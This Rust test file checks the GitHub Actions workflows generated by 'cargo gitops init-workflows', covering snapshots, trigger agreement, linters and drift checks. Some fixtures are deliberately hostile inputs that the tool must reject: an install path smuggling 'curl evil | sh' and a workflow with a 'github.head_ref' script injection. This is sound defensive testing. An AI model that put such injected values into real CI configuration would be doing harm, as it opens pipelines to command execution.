//! `cargo gitops init-workflows`: snapshots of the generated files, agreement between each
//! workflow's triggers and `cargo gitops env`, the real validators (zizmor, check-jsonschema,
//! actionlint), and the drift check.

use std::path::Path;
use std::process::Command;

use crate::support::Dir;
use yaml_rust2::{Yaml, YamlLoader};

const SHA: &str = "b4b9fda0123456789abcdef0123456789abcdef0";

/// The SHA-256 pins every configuration here installs with (what `pins update` writes).
pub(crate) const INSTALL_PINS: &str = r#"
[workspace.metadata.gitops.install.sha256]
x86_64-unknown-linux-musl = "1111111111111111111111111111111111111111111111111111111111111111"
aarch64-unknown-linux-musl = "2222222222222222222222222222222222222222222222222222222222222222"
x86_64-apple-darwin = "3333333333333333333333333333333333333333333333333333333333333333"
aarch64-apple-darwin = "4444444444444444444444444444444444444444444444444444444444444444"
"#;

const DEFAULT_CONFIG: &str = r#"[workspace]

[workspace.metadata.gitops]
registry = "ghcr.io/acme"
image = "shop"
"#;

/// Three testing environments, the alpha and beta channels and a registry that is not ghcr.io.
const CUSTOM_CONFIG: &str = r#"[workspace]

[workspace.metadata.gitops]
registry = "registry.example.com/team"
image = "shop"
retagger = "crane"
id-token = true
registry-secrets = { username = "REGISTRY_USER", password = "REGISTRY_PASSWORD" }
workflow-steps = [{ name = "unit tests", run = "cargo test --locked" }]

[[workspace.metadata.gitops.environments]]
name = "production"

[[workspace.metadata.gitops.environments]]
name = "alpha"

[[workspace.metadata.gitops.environments]]
name = "beta"

[[workspace.metadata.gitops.environments]]
name = "uat1"
branches = ["test/uat1"]
format = "uat1-{sha}-{timestamp}"

[[workspace.metadata.gitops.environments]]
name = "uat2"
branches = ["test/uat2"]
format = "uat2-{sha}-{timestamp}"

[[workspace.metadata.gitops.environments]]
name = "sit"
branches = ["sit/**"]
format = "sit-{branch}-{sha}-{timestamp}"

[[workspace.metadata.gitops.environments]]
name = "staging"

[[workspace.metadata.gitops.environments]]
name = "development"
"#;

/// A temp repository with `config` as its Cargo.toml (and the install pins, unless it says
/// how to install) and one commit.
pub(crate) fn repository(config: &str) -> Dir {
    let dir = Dir::git_repo();
    if config.contains("install") {
        dir.create("Cargo.toml", config);
    } else {
        dir.create("Cargo.toml", format!("{config}{INSTALL_PINS}"));
    }
    dir.commit("first");
    dir
}

/// Generates the workflows into `dir` and returns them by file name, sorted.
pub(crate) fn generate(dir: &Dir) -> Vec<(String, String)> {
    dir.command().args(["init-workflows", "-q"]).expect_exit(0);
    let mut files: Vec<(String, String)> = std::fs::read_dir(dir.join(".github/workflows"))
        .unwrap()
        .map(|e| {
            let e = e.unwrap();
            (
                e.file_name().into_string().unwrap(),
                std::fs::read_to_string(e.path()).unwrap(),
            )
        })
        .collect();
    files.sort();
    files
}

#[test]
fn snapshots_of_the_default_configuration() {
    let dir = repository(DEFAULT_CONFIG);
    let files = generate(&dir);
    let names: Vec<&str> = files.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(
        names,
        [
            "gitops-alpha.yml",
            "gitops-beta.yml",
            "gitops-development.yml",
            "gitops-pipeline.yml",
            "gitops-production.yml",
            "gitops-staging.yml",
            "gitops-testing.yml"
        ]
    );
    for (name, contents) in files {
        insta::assert_snapshot!(format!("default__{name}"), contents);
    }
}

#[test]
fn snapshots_of_three_testing_environments_channels_and_a_custom_registry() {
    let dir = repository(CUSTOM_CONFIG);
    for (name, contents) in generate(&dir) {
        insta::assert_snapshot!(format!("custom__{name}"), contents);
    }
}

/// GitHub's filter-pattern semantics: `*` any characters but `/`, `**` any characters, `+` one
/// or more of the preceding character, `?` zero or one of it, `[...]` a class, `\` escapes;
/// patterns apply in order and a later `!pattern` removes what earlier ones matched.
fn github_filter_accepts(patterns: &[String], name: &str) -> bool {
    let mut accepted = false;
    for pattern in patterns {
        let (negated, body) = match pattern.strip_prefix('!') {
            Some(rest) => (true, rest),
            None => (false, pattern.as_str()),
        };
        if filter_regex(body).is_match(name) {
            accepted = !negated;
        }
    }
    accepted
}

fn filter_regex(pattern: &str) -> regex::Regex {
    let mut out = String::from("^");
    let chars: Vec<char> = pattern.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        match chars[i] {
            '*' if chars.get(i + 1) == Some(&'*') => {
                out.push_str(".*");
                i += 1;
            }
            '*' => out.push_str("[^/]*"),
            '+' => out.push('+'),
            '?' => out.push('?'),
            '[' => {
                let end = i + chars[i..].iter().position(|c| *c == ']').unwrap();
                let class: String = chars[i + 1..end].iter().collect();
                out.push('[');
                out.push_str(&class.replace('\\', "\\\\"));
                out.push(']');
                i = end;
            }
            '\\' => {
                i += 1;
                out.push_str(&regex::escape(&chars[i].to_string()));
            }
            c => out.push_str(&regex::escape(&c.to_string())),
        }
        i += 1;
    }
    out.push('$');
    regex::Regex::new(&out).unwrap_or_else(|e| panic!("{pattern}: {e}"))
}

fn strings(yaml: &Yaml) -> Vec<String> {
    yaml.as_vec()
        .map(|v| v.iter().map(|s| s.as_str().unwrap().to_owned()).collect())
        .unwrap_or_default()
}

/// The environment `cargo gitops env` gives a ref, run as GitHub Actions would run it.
fn environment_of(dir: &Dir, full_ref: &str) -> Option<String> {
    let json = dir
        .command()
        .env("GITHUB_ACTIONS", "true")
        .env("GITHUB_REF", full_ref)
        .env("GITHUB_SHA", SHA)
        .args(["env", "--format", "json"])
        .json();
    json["environment"].as_str().map(str::to_owned)
}

const BRANCHES: &[&str] = &[
    "main",
    "main-fix",
    "mainline",
    "test/uat1",
    "test/uat2",
    "test/uat3",
    "test/uat1/extra",
    "test",
    "sit/a",
    "sit/a/b",
    "sit",
    "feature/login",
    "feature/a/b",
    "fix#12",
    "release/1.0",
    "UPPER",
    "v1.2.3",
];
const TAGS: &[&str] = &[
    "v1.2.3",
    "1.2.3",
    "v1.2.3+build.5",
    "v10.20.30",
    "v0.0.0",
    "v1.1.0-alpha1",
    "v1.1.0-alpha",
    "v1.1.0-alpha.2",
    "v1.0.3-beta2",
    "2.0.0-beta+exp.sha.5114f85",
    "v1.0.0-rc1",
    "v01.2.3",
    "v1.02.3",
    "v1.2.03",
    "release-1",
    "nightly",
    "v1",
    "v1.2",
    "main",
];

fn check_triggers_agree_with_env(config: &str) {
    let dir = repository(config);
    let files = generate(&dir);
    let mut refs: Vec<(String, &str)> = BRANCHES
        .iter()
        .map(|b| (format!("refs/heads/{b}"), *b))
        .collect();
    refs.extend(TAGS.iter().map(|t| (format!("refs/tags/{t}"), *t)));
    let resolved: Vec<Option<String>> = refs
        .iter()
        .map(|(full, _)| environment_of(&dir, full))
        .collect();

    for (file, contents) in files.iter().filter(|(n, _)| n != "gitops-pipeline.yml") {
        let doc = &YamlLoader::load_from_str(contents).unwrap()[0];
        let workflow_env = doc["jobs"]["pipeline"]["with"]["environment"]
            .as_str()
            .unwrap()
            .to_owned();
        let push = &doc["on"]["push"];
        let branches = strings(&push["branches"]);
        let tags = strings(&push["tags"]);
        for ((full, name), env) in refs.iter().zip(&resolved) {
            let patterns = if full.starts_with("refs/heads/") {
                &branches
            } else {
                &tags
            };
            let triggered = github_filter_accepts(patterns, name);
            let belongs = env.as_deref() == Some(workflow_env.as_str());
            assert_eq!(
                triggered,
                belongs,
                "{file}: {full} {} but cargo gitops env says {env:?}",
                if triggered {
                    "triggers it"
                } else {
                    "does not trigger it"
                }
            );
        }
    }
}

#[test]
fn triggers_agree_with_env_for_the_defaults() {
    check_triggers_agree_with_env(DEFAULT_CONFIG);
}

#[test]
fn triggers_agree_with_env_for_a_custom_configuration() {
    check_triggers_agree_with_env(CUSTOM_CONFIG);
}

#[test]
fn the_filter_semantics_used_above_are_right() {
    let p = |list: &[&str]| list.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    assert!(github_filter_accepts(&p(&["**", "!main"]), "feature/x"));
    assert!(!github_filter_accepts(&p(&["**", "!main"]), "main"));
    assert!(!github_filter_accepts(&p(&["test/*"]), "test/a/b"));
    assert!(github_filter_accepts(&p(&["v[0-9]+.[0-9]+"]), "v10.2"));
    assert!(!github_filter_accepts(&p(&["v[0-9]+.[0-9]+"]), "v1x2"));
    assert!(github_filter_accepts(
        &p(&["v1\\+[-.0-9A-Za-z]+"]),
        "v1+b.5"
    ));
}

pub(crate) fn run_validator(program: &str, args: &[&str], dir: &Path) {
    let output = Command::new(program)
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap_or_else(|e| panic!("{program} must be installed (.ci/test installs it): {e}"));
    assert!(
        output.status.success(),
        "{program} {args:?} failed:\n{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
}

fn validate(config: &str) {
    let dir = repository(config);
    generate(&dir);
    validate_dir(&dir);
}

/// zizmor (its pedantic persona), check-jsonschema and actionlint on every workflow in `dir`.
pub(crate) fn validate_dir(dir: &Dir) {
    let mut paths: Vec<String> = std::fs::read_dir(dir.join(".github/workflows"))
        .unwrap()
        .map(|e| {
            format!(
                ".github/workflows/{}",
                e.unwrap().file_name().to_string_lossy()
            )
        })
        .collect();
    paths.sort();
    run_validator(
        "zizmor",
        &[
            "--offline",
            "--no-progress",
            "--persona",
            "pedantic",
            ".github/workflows",
        ],
        dir.path(),
    );
    let mut schema_args = vec!["--builtin-schema", "vendor.github-workflows"];
    schema_args.extend(paths.iter().map(String::as_str));
    run_validator("check-jsonschema", &schema_args, dir.path());
    // Go's actionlint (.ci/test builds it), with shellcheck on every `run:`.
    let mut args = vec!["-no-color"];
    args.extend(paths.iter().map(String::as_str));
    run_validator("actionlint", &args, dir.path());
    for path in &paths {
        shellcheck_runs(&dir.join(path));
    }
}

/// shellcheck on the `run:` scripts the generator writes (the install and build steps), as
/// bash runs them; scripts of `workflow-steps` are the user's own.
pub(crate) fn shellcheck_runs(workflow: &Path) {
    let text = std::fs::read_to_string(workflow).unwrap();
    let doc = &YamlLoader::load_from_str(&text).unwrap()[0];
    let Some(jobs) = doc["jobs"].as_hash() else {
        return;
    };
    let scratch = tempfile::tempdir().unwrap();
    for (job, body) in jobs {
        for (index, step) in body["steps"].as_vec().into_iter().flatten().enumerate() {
            let Some(run) = step["run"].as_str() else {
                continue;
            };
            let name = step["name"].as_str().unwrap_or("");
            if !(name.starts_with("install cargo-gitops")
                || name == "build or retag"
                || name == "deploy to the manifests"
                || name.starts_with("set up the Rust toolchain"))
            {
                continue;
            }
            let script = scratch
                .path()
                .join(format!("{}-{index}.sh", job.as_str().unwrap_or("job")));
            std::fs::write(&script, run).unwrap();
            run_validator(
                "shellcheck",
                &["--shell=bash", script.to_str().unwrap()],
                scratch.path(),
            );
        }
    }
}

#[test]
fn generated_default_workflows_pass_zizmor_check_jsonschema_and_actionlint() {
    validate(DEFAULT_CONFIG);
}

#[test]
fn generated_custom_workflows_pass_zizmor_check_jsonschema_and_actionlint() {
    validate(CUSTOM_CONFIG);
}

#[test]
fn the_validators_catch_what_the_generator_must_avoid() {
    // The same checks fail on a workflow with an unpinned action and an injection in `run:`,
    // so their passing above means something.
    let dir = Dir::new();
    dir.create(
        ".github/workflows/bad.yml",
        "name: bad\non: pull_request_target\npermissions: {}\njobs:\n  a:\n    name: a\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: x\n        run: echo ${{ github.head_ref }}\n",
    );
    let status = Command::new("zizmor")
        .args(["--offline", "--no-progress", ".github/workflows"])
        .current_dir(dir.path())
        .output()
        .unwrap()
        .status;
    assert!(
        !status.success(),
        "zizmor accepted an injection and an unpinned action"
    );
    let status = Command::new("actionlint")
        .arg(".github/workflows/bad.yml")
        .current_dir(dir.path())
        .output()
        .unwrap()
        .status;
    assert!(!status.success(), "actionlint accepted an injection");
}

#[test]
fn check_fails_after_a_hand_edit_and_passes_after_regeneration() {
    let dir = repository(DEFAULT_CONFIG);
    generate(&dir);
    dir.command()
        .args(["init-workflows", "--check"])
        .expect_exit(0);

    let staging = dir.join(".github/workflows/gitops-staging.yml");
    let edited = std::fs::read_to_string(&staging)
        .unwrap()
        .replace("cancel-in-progress: false", "cancel-in-progress: true");
    std::fs::write(&staging, edited).unwrap();
    let output = dir
        .command()
        .args(["init-workflows", "--check"])
        .expect_exit(1);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains("--- a/.github/workflows/gitops-staging.yml"),
        "{stdout}"
    );
    assert!(
        stdout.contains("-  cancel-in-progress: true")
            && stdout.contains("+  cancel-in-progress: false"),
        "{stdout}"
    );
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("run `cargo gitops init-workflows`"),
        "{stderr}"
    );
    // --check wrote nothing.
    assert!(
        std::fs::read_to_string(&staging)
            .unwrap()
            .contains("cancel-in-progress: true")
    );

    dir.command().args(["init-workflows", "-q"]).expect_exit(0);
    dir.command()
        .args(["init-workflows", "--check"])
        .expect_exit(0);
}

/// An environment removed from the configuration: `--check` reports its workflow, and
/// `init-workflows` deletes it; a `gitops-*.yml` without the tool's header is the user's and
/// neither reported nor touched.
#[test]
fn a_workflow_that_is_no_longer_generated_is_reported_and_removed_but_not_a_users_file() {
    let dir = repository(DEFAULT_CONFIG);
    let generated = generate(&dir);
    // A workflow an earlier generation wrote, for an environment since removed.
    let (_, staging) = generated
        .iter()
        .find(|(n, _)| n == "gitops-staging.yml")
        .unwrap();
    dir.create(
        ".github/workflows/gitops-qa.yml",
        staging.replace("staging", "qa"),
    );
    dir.create(".github/workflows/gitops-mine.yml", "name: mine\n");
    let output = dir
        .command()
        .args(["init-workflows", "--check"])
        .expect_exit(1);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains(
            ".github/workflows/gitops-qa.yml is no longer generated: `cargo gitops init-workflows` deletes it"
        ),
        "{stdout}"
    );
    assert!(!stdout.contains("gitops-mine.yml"), "{stdout}");

    let output = dir.command().args(["init-workflows"]).expect_exit(0);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("removed .github/workflows/gitops-qa.yml (no longer generated)"),
        "{stderr}"
    );
    assert!(!dir.join(".github/workflows/gitops-qa.yml").exists());
    assert!(dir.join(".github/workflows/gitops-mine.yml").exists());
    dir.command()
        .args(["init-workflows", "--check"])
        .expect_exit(0);
}

#[test]
fn a_user_template_replaces_the_embedded_one() {
    let config = format!("{DEFAULT_CONFIG}templates = \"ci\"\n");
    let dir = repository(&config);
    dir.create(
        "ci/environment.yml",
        "# custom [[ name ]] via [[ pipeline_file ]]\n",
    );
    let files = generate(&dir);
    let staging = &files
        .iter()
        .find(|(n, _)| n == "gitops-staging.yml")
        .unwrap()
        .1;
    assert_eq!(staging, "# custom staging via gitops-pipeline.yml\n");
    let pipeline = &files
        .iter()
        .find(|(n, _)| n == "gitops-pipeline.yml")
        .unwrap()
        .1;
    assert!(
        pipeline.contains("cargo-gitops build"),
        "the pipeline template is still the embedded one"
    );
}

#[test]
fn an_undefined_variable_in_a_template_is_an_error() {
    let config = format!("{DEFAULT_CONFIG}templates = \"ci\"\n");
    let dir = repository(&config);
    dir.create("ci/pipeline.yml", "name: [[ no_such_value ]]\n");
    let output = dir.command().args(["init-workflows"]).expect_exit(2);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.starts_with("error: template `pipeline.yml` is not valid")
            && stderr.contains("undefined"),
        "{stderr}"
    );
    assert!(
        !dir.join(".github/workflows").exists(),
        "nothing is written when rendering fails"
    );
}

#[test]
fn an_unpinned_extra_step_is_refused() {
    let config = format!(
        "{DEFAULT_CONFIG}workflow-steps = [{{ name = \"cache\", uses = \"actions/cache@v4\" }}]\n"
    );
    let dir = repository(&config);
    let output = dir.command().args(["init-workflows"]).expect_exit(2);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("not pinned to a full commit sha"),
        "{stderr}"
    );
}

#[test]
fn settings_that_would_be_pasted_into_yaml_or_shell_must_be_plain() {
    let cases = [
        (
            "registry-secrets = { username = \"U }} x\", password = \"P\" }\n",
            "is not a secret name",
        ),
        (
            "install-path = \"a b; curl evil | sh\"\n",
            "is not a plain relative path",
        ),
    ];
    for (setting, message) in cases {
        let dir = repository(&format!("{DEFAULT_CONFIG}{setting}"));
        let line = dir.command().args(["init-workflows"]).expect_error(2);
        assert!(line.contains(message), "{setting}: {line}");
        assert!(
            !dir.path().join(".github/workflows").exists(),
            "{setting}: files were written"
        );
    }
}

#[test]
fn a_registry_with_credentials_in_it_is_refused_without_printing_them() {
    let dir = repository(
        "[workspace]\n\n[workspace.metadata.gitops]\nregistry = \"https://ci:hunter2@ghcr.io/acme\"\nimage = \"shop\"\n",
    );
    let output = dir.command().args(["env"]).expect_exit(2);
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(all.contains("workspace.metadata.gitops.registry"), "{all}");
    assert!(!all.contains("hunter2"), "{all}");
}

/// A `type=gha` cache cannot work from the pipeline's `run:` step (no runtime token): it is
/// refused with the way out, instead of a pipeline that silently never caches.
#[test]
fn a_gha_cache_is_refused_with_the_registry_cache_as_the_way_out() {
    let dir = repository(
        "[workspace]\n\n[workspace.metadata.gitops]\nregistry = \"ghcr.io/acme\"\nimage = \"web\"\ncache-from = [\"type=gha\"]\ncache-to = [\"type=gha,mode=max\"]\n",
    );
    let line = dir.command().args(["init-workflows"]).usage_error();
    assert_eq!(
        line,
        "error: configuration key `cache-from`: type=gha needs the Actions runtime token, which the pipeline's `run:` step does not get; remove cache-from and cache-to to use the default registry cache (type=registry,ref=IMAGE:buildcache)"
    );
    assert!(!dir.join(".github/workflows/gitops-pipeline.yml").exists());
}

/// A Dockerfile build for several platforms gets QEMU before Buildx, pinned to the commit of
/// docker/setup-qemu-action v4.2.0 (read from the action's repository: the tag's commit); a
/// single amd64 build and a native one do not. GitLab refuses instead of failing later.
#[test]
fn multi_platform_dockerfile_builds_set_up_qemu_or_are_refused_on_gitlab() {
    let config = |extra: &str| {
        format!(
            "[workspace]\n\n[workspace.metadata.gitops]\nregistry = \"ghcr.io/acme\"\nimage = \"web\"\n{extra}"
        )
    };
    let multi = repository(&config("platforms = [\"linux/amd64\", \"linux/arm64\"]\n"));
    let files = generate(&multi);
    let pipeline = &files
        .iter()
        .find(|(n, _)| n == "gitops-pipeline.yml")
        .unwrap()
        .1;
    let qemu = pipeline
        .find("uses: docker/setup-qemu-action@96fe6ef7f33517b61c61be40b68a1882f3264fb8 # v4.2.0")
        .expect("a pinned QEMU step");
    let buildx = pipeline.find("uses: docker/setup-buildx-action@").unwrap();
    assert!(qemu < buildx, "QEMU comes before Buildx");
    validate_dir(&multi);

    for extra in ["platforms = [\"linux/amd64\"]\n", ""] {
        let single = repository(&config(extra));
        let files = generate(&single);
        assert!(
            files.iter().all(|(_, text)| !text.contains("setup-qemu")),
            "{extra}"
        );
    }

    let gitlab = repository(&config(
        "platforms = [\"linux/amd64\", \"linux/arm64\"]\nci = [\"gitlab\"]\n",
    ));
    let line = gitlab.command().args(["init-workflows"]).usage_error();
    assert!(
        line.starts_with("error: configuration key `platforms`: a Dockerfile build for linux/amd64, linux/arm64 runs instructions under QEMU, which the generated GitLab job does not set up"),
        "{line}"
    );
}

/// `needs-workflows`: branch environments start when the named workflow succeeds on a pushed
/// branch of this repository (`workflow_run`), and build the tested commit; release tags
/// still build on push. The files pass actionlint and zizmor.
#[test]
fn needs_workflows_waits_for_the_tests_and_builds_the_tested_commit() {
    let dir = repository(&format!("{DEFAULT_CONFIG}needs-workflows = [\"test\"]\n"));
    let files = generate(&dir);
    let file = |name: &str| {
        let text = &files.iter().find(|(n, _)| n == name).unwrap().1;
        YamlLoader::load_from_str(text).unwrap().remove(0)
    };
    let staging = file("gitops-staging.yml");
    let on = &staging["on"];
    assert!(on["push"].is_badvalue(), "{on:?}");
    assert_eq!(on["workflow_run"]["workflows"][0].as_str(), Some("test"));
    assert_eq!(on["workflow_run"]["types"][0].as_str(), Some("completed"));
    assert_eq!(on["workflow_run"]["branches"][0].as_str(), Some("main"));
    let job = &staging["jobs"]["pipeline"];
    let condition = job["if"].as_str().unwrap();
    for part in [
        "github.event.workflow_run.conclusion == 'success'",
        "github.event.workflow_run.event == 'push'",
        "github.event.workflow_run.head_repository.full_name == github.repository",
    ] {
        assert!(condition.contains(part), "{condition}");
    }
    assert!(
        job["with"]["sha"]
            .as_str()
            .unwrap()
            .contains("github.event.workflow_run.head_sha")
    );
    let production = file("gitops-production.yml");
    assert!(production["on"]["workflow_run"].is_badvalue());
    assert!(!production["on"]["push"]["tags"].is_badvalue());
    let pipeline = file("gitops-pipeline.yml");
    assert!(!pipeline["on"]["workflow_call"]["inputs"]["sha"].is_badvalue());
    validate_dir(&dir);

    // Without the key, nothing changes.
    let plain = generate(&repository(DEFAULT_CONFIG));
    assert!(plain.iter().all(|(_, text)| !text.contains("workflow_run")));
}
